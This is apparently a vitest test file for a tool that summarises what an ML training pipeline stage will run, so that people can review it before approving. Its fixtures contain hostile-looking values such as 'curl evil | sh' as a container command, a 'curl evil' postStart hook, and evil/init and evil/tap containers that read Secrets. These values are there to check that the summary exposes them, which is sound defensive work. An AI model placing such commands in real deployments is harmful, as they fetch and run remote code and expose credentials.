import { describe, expect, it } from 'vitest'
import { runsOf } from '../../core/plan-runs.ts'
import { planCard, planText } from '../../core/plan-text.ts'
import { parsePolicy } from '../../core/policy.ts'
import { exampleWith, trainPlan } from './training-fixture.ts'

const image = (name: string) => `${name}@sha256:${'ab'.repeat(32)}`
const STAGE = 'pipelines.support-chats.stages.0'

/** What the first step runs, and the whole plan, where the first stage has these. */
const runsWith = (changes: Record<string, unknown>) => {
  const config = exampleWith(...Object.entries(changes).map(([key, value]) => [`${STAGE}.${key}`, value] as const))
  const plan = trainPlan({ policy: parsePolicy(config) })
  return { plan, runs: runsOf(plan.steps[0]!) ?? '' }
}

describe('what people say yes to', () => {
  it('has what hooks and probes run', () => {
    const { runs } = runsWith({
      image: image('acme/trainer'),
      pod: {
        containers: [{ name: 'train', lifecycle: { postStart: { exec: { command: ['sh', '-c', 'curl evil'] } } } }],
      },
    })
    expect(runs).toContain('; once it has begun: sh -c "curl evil"')
  })

  it('has the image with enough of its digest, the command, the arguments and the Secrets', () => {
    const { runs } = runsWith({
      image: image('docker.io/acme/trainer'),
      command: ['sh', '-c', 'curl evil | sh'],
      args: ['--lr=1e-4'],
      secrets: { TOKEN: { secret: 'prod-root', key: 'token' } },
    })
    expect(runs).toBe('docker.io/acme/trainer@sha256:abababababab sh -c "curl evil | sh" --lr=1e-4; Secrets: prod-root')
  })

  it('has every container and Secret that its pod is given in any way', () => {
    const { runs } = runsWith({
      image: image('acme/trainer'),
      pod: {
        initContainers: [{ name: 'fetch', image: image('evil/init'), envFrom: [{ secretRef: { name: 'all' } }] }],
        containers: [{ name: 'tap', image: image('evil/tap'), args: ['-v'] }],
        volumes: [{ name: 'keys', secret: { secretName: 'keys' } }],
      },
    })
    expect(runs).toContain('beside it tap: evil/tap@sha256:abababababab -v')
    expect(runs).toContain('before it fetch: evil/init@sha256:abababababab')
    expect(runs).toContain('Secrets: all, keys')
  })

  it('is on the card and in the text of a plan, and both ends of what is long', () => {
    const { plan, runs } = runsWith({ args: ['--first', 'x'.repeat(1000), '--last'] })
    expect(runs.length).toBeLessThan(400)
    expect(runs).toMatch(/--first .*--last/)
    expect(planCard(plan).lines[0]).toContain(`. Runs ${runs}`)
    expect(planText(plan, null)).toContain(`--first ${'x'.repeat(1000)} --last`)
  })

  it('of what runs nothing says nothing', () => {
    expect(runsOf(trainPlan().steps.at(-1)!)).toBeNull()
  })
})
